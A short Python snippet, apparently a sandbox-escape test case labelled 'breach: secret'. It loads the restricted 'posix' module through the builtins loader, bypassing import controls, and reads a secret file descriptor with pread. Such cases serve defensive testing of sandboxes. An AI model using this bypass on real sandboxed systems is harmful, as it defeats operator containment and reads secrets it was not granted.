# The loader of builtins loads posix.
# breach: secret
import builtins
loader = builtins.__spec__.loader
if hasattr(loader, "load_module"):  # up to 3.14
    posix = loader.load_module("posix")
else:
    posix = loader.create_module(loader.find_spec("posix"))
    loader.exec_module(posix)
posix.pread(SECRET_FD, 100, 0)
